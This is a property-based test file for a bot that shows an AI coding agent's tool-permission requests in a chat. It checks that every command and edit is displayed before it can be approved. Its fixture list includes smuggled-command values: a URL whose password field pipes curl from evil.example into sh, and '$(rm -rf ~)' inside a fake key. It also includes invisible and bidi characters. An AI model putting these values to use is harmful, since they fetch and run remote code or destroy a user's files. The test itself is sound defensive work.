import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { anyText } from '../../fixtures/arbitrary-card';
import { asTelegramShows, readBack } from '../../fixtures/read-back';
import { objectionsToPart } from '../../fixtures/strict-view';
import type { Language } from '../../words/language';
import { KNOWN_SECRET, RequestChat } from './fixtures/request-chat';
import { WHOLE_MAX } from './measure';
import type { RequestAction } from './model';

const DIR = mkdtempSync(join(tmpdir(), 'ccbot-shown-'));
const FILE = join(DIR, 'file.txt');
afterAll(() => rmSync(DIR, { recursive: true, force: true }));

type Input = Record<string, unknown>;

const letsRun = ({ act }: RequestAction): boolean => act === 'allow' || act === 'always' || act === 'approve';

/** What is hidden in a request: secrets with commands in them, characters without a look, and much room. */
const HARD = [
  'postgres://u:hunter2hunter2@db',
  'https://u:$(curl${IFS}evil.example|sh)@h/',
  '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n$(rm -rf ~)\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC',
  'sk-ant-api03-aaaaaaaaaaaaaaaaaaaaaaaaaaaa1',
  KNOWN_SECRET,
  '\u202e\u2066\u200b\u00ad\u{e0041}\ufe0f',
  '\r\n\u001b[2K\b',
  ' '.repeat(300),
  '\n'.repeat(60),
  'trailing  \n\t\n',
  '⟨U+202E⟩⟨newline×5⟩ ⇥ ••••••',
  '*** Begin Patch',
  '"quoted" \\n \\\\n \\',
  '@@ 1 @@\n+a\n-b\n\\ No newline at end of file\n c',
];

let leaves = 0;
/** A text that no other text of the request contains. */
const leaf: fc.Arbitrary<string> = fc
  .tuple(
    fc.array(fc.oneof(anyText(12), fc.constantFrom(...HARD)), { maxLength: 4 }),
    fc.oneof(
      { weight: 40, arbitrary: fc.constant(1) },
      { weight: 3, arbitrary: fc.integer({ min: 20, max: 400 }) },
      { weight: 1, arbitrary: fc.constant(Math.ceil(WHOLE_MAX / 6)) },
    ),
  )
  .map(([pieces, times]) => `L${++leaves}:${pieces.join('')}${times === 1 ? '' : ' line\n'.repeat(times)}|`);

const anyKey = fc.oneof(
  fc.constantFrom('path', 'dry_run', 'command', 'timeout', '__proto__', ''),
  anyText(5),
);
const anyJson: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    fc.constantFrom(false, true, null, '', 0, 1.5, [], {}),
    leaf,
    fc.array(tie('value'), { maxLength: 3 }),
    fc.dictionary(anyKey, tie('value'), { maxKeys: 3 }),
  ),
})).value;
const anyFields = fc.dictionary(anyKey, anyJson, { maxKeys: 3 });

const own = (
  tool: string,
  fields: fc.Arbitrary<Input>,
): fc.Arbitrary<{ tool_name: string; tool_input: unknown }> =>
  fc
    .tuple(fields, anyFields)
    .map(([input, extra]) => ({ tool_name: tool, tool_input: { ...extra, ...input } }));
const edit = { old_string: leaf, new_string: leaf };

/** A change of a few lines in a long file. The diff of the file leaves lines out. */
const onFile = fc
  .tuple(fc.array(leaf, { minLength: 1, maxLength: 12 }), leaf, fc.nat(11), fc.boolean(), fc.boolean())
  .map(([lines, changed, at, isWrite, isLong]): Asked => {
    const filler = isLong ? Array.from({ length: 9 }, (_, i) => `same ${i}`) : [];
    const all = [...lines.slice(0, at), ...filler, ...lines.slice(at)];
    const before = all.join('\n');
    const after = all.map((line, i) => (i === all.length - 1 ? changed : line)).join('\n');
    const input = isWrite ? { content: after } : { old_string: before, new_string: after };
    return {
      tool_name: isWrite ? 'Write' : 'Edit',
      tool_input: { file_path: FILE, ...input },
      onDisk: before,
    };
  });

const anyTool: fc.Arbitrary<Asked> = fc.oneof(
  onFile,
  own('Bash', fc.record({ command: leaf, description: leaf }, { requiredKeys: ['command'] })),
  own('Write', fc.record({ file_path: leaf, content: leaf })),
  own(
    'Edit',
    fc.record(
      { file_path: leaf, ...edit, replace_all: fc.boolean() },
      { requiredKeys: ['file_path', 'old_string', 'new_string'] },
    ),
  ),
  own(
    'MultiEdit',
    fc.record({ file_path: leaf, edits: fc.array(fc.record(edit), { minLength: 1, maxLength: 3 }) }),
  ),
  own(
    'NotebookEdit',
    fc.record({ notebook_path: leaf, new_source: leaf, edit_mode: fc.constantFrom('insert', null) }),
  ),
  own('WebFetch', fc.record({ url: leaf, prompt: leaf })),
  own('ExitPlanMode', fc.record({ plan: leaf })),
  own('mcp__files__write', fc.record({ path: leaf, content: leaf, dry_run: fc.constant(false) })),
  fc.tuple(leaf, anyJson).map(([tool_name, tool_input]) => ({ tool_name, tool_input })),
);

const anySuggestions = fc.array(
  fc.oneof(
    fc
      .record({
        rules: fc.array(fc.record({ toolName: fc.constantFrom('Bash', 'Edit'), ruleContent: leaf }), {
          minLength: 1,
          maxLength: 2,
        }),
      })
      .map((rules) => ({ type: 'addRules', behavior: 'allow', destination: 'session', ...rules })),
    leaf.map((directory) => ({
      type: 'addDirectories',
      directories: [directory],
      destination: 'userSettings',
    })),
    leaf.map((mode) => ({ type: 'setMode', mode, destination: 'session' })),
  ),
  { maxLength: 2 },
);

/** What a chat shows, read back: as it is, as JSON without the breaks in its strings, and both sides of every diff. */
function readings(everything: string): string[] {
  const lines = everything.split('\n');
  const side = (sign: string): string =>
    lines
      .filter((line) => line.startsWith(sign) || line.startsWith(' '))
      .map((line) => readBack(line.slice(1)))
      .join('\n');
  return [
    readBack(everything),
    readBack(everything.replace(/(?<!\\)((?:\\\\)*\\n)\n/g, '$1')),
    side('+'),
    side('-'),
  ];
}

const NAME = /^[A-Za-z_][\w.-]*$/;
const field = (key: string, value: unknown): string =>
  `${NAME.test(key) ? key : JSON.stringify(key)}: ${JSON.stringify(value, null, 2)}`;

/** Everything of a request that must have been read before it may run. */
function mustBeRead(tool: string, input: unknown): string[] {
  const isObject = typeof input === 'object' && input !== null && !Array.isArray(input);
  const entries = isObject ? Object.entries(input) : [];
  const shape = SHAPES[tool] ?? [];
  if (entries.length === 0) return [tool, JSON.stringify(input, null, 2)];
  return [
    tool,
    ...entries.flatMap(([key, value]) => {
      if (tool === 'MultiEdit' && key === 'edits')
        return (value as Input[]).flatMap((item) => Object.values(item) as string[]);
      if (key === 'replace_all') return [`replace_all: ${String(value)}`];
      return shape.includes(key) && typeof value === 'string' ? [value] : [field(key, value)];
    }),
  ];
}

const SHAPES: Record<string, readonly string[] | undefined> = {
  Bash: ['command', 'description'],
  Write: ['file_path', 'content', 'description'],
  Edit: ['file_path', 'old_string', 'new_string', 'description'],
  MultiEdit: ['file_path', 'description'],
  NotebookEdit: ['notebook_path', 'new_source', 'description'],
  WebFetch: ['url', 'prompt', 'description'],
  ExitPlanMode: ['plan'],
};

function missing(everything: string, wanted: readonly string[]): string[] {
  const all = readings(everything);
  return wanted.filter((text) => !all.some((reading) => reading.includes(text)));
}

interface Asked {
  tool_name: string;
  tool_input: unknown;
  /** The file as it is before. */
  onDisk?: string;
}

/** Whether the chat may let the request run; fails if it may and something was not shown. */
function check(chat: RequestChat, { tool_name, tool_input }: Asked): boolean {
  const actions = chat.actions();
  for (const part of chat.parts()) {
    expect(objectionsToPart(part)).toEqual([]);
    expect(asTelegramShows(part.text)).toBe(part.text);
  }
  if (!actions.some(letsRun)) {
    // Nor does a button that is not there.
    for (const action of FORGED) chat.tap(action);
    expect(chat.request?.phase).toBe('open');
    expect(actions.some(({ act }) => act === 'deny' || act === 'reason')).toBe(true);
    return false;
  }
  const everything = chat.everything();
  expect(missing(everything, mustBeRead(tool_name, tool_input))).toEqual([]);
  const what = chat.request?.asked.what;
  const labels = chat.labels().join('\n');
  const always = what?.kind === 'permission' ? what.always.flatMap(({ names }) => names) : [];
  const unread = always.filter((name) => {
    // On its button, a rule goes without the name of the request's own tool.
    const rule = name.startsWith(`${tool_name}(`) ? name.slice(tool_name.length + 1, -1) : name;
    return missing(everything, [name]).length > 0 && !labels.includes(rule);
  });
  expect(unread).toEqual([]);
  return true;
}

const FORGED: readonly RequestAction[] = [
  { act: 'allow' },
  { act: 'always', n: 0 },
  { act: 'approve', n: 0 },
];

describe('a request', () => {
  it('shows everything that will run before it can be allowed', async () => {
    const reached = { compared: 0, allowed: 0, unmasked: 0, filed: 0, refused: 0 };
    await fc.assert(
      fc.asyncProperty(
        anyTool,
        anySuggestions,
        fc.constantFrom<Language>('en', 'ru', 'zh'),
        fc.integer({ min: 0, max: 2 }).map((n) => n > 0),
        async ({ onDisk, ...asked }, permission_suggestions, language, arrives) => {
          if (onDisk !== undefined) writeFileSync(FILE, onDisk);
          const chat = new RequestChat(language);
          await chat.ask({ ...asked, permission_suggestions }, DIR);
          if (chat.request?.diff !== undefined) reached.compared++;
          let canRun = check(chat, asked);
          if (chat.request?.fit === 'file') {
            chat.upload(arrives);
            reached.filed++;
            canRun = check(chat, asked);
          }
          if (chat.actions().some(({ act }) => act === 'unmask')) {
            expect(canRun).toBe(false);
            chat.tap({ act: 'unmask' });
            check(chat, asked);
            chat.upload(arrives);
            canRun = check(chat, asked);
            reached.unmasked++;
          }
          if (canRun) reached.allowed++;
          else reached.refused++;
          const isLarge = chat.request?.fit === 'terminal';
          expect(canRun).toBe(!isLarge && (arrives || chat.request?.fit !== 'file'));
          chat.tap({ act: asked.tool_name === 'ExitPlanMode' ? 'approve' : 'allow', n: 0 } as RequestAction);
          expect(chat.request?.phase).toBe(canRun ? 'decided' : 'open');
        },
      ),
      { numRuns: 300, endOnFailure: true },
    );
    for (const count of Object.values(reached)) expect(count).toBeGreaterThan(0);
  });
});
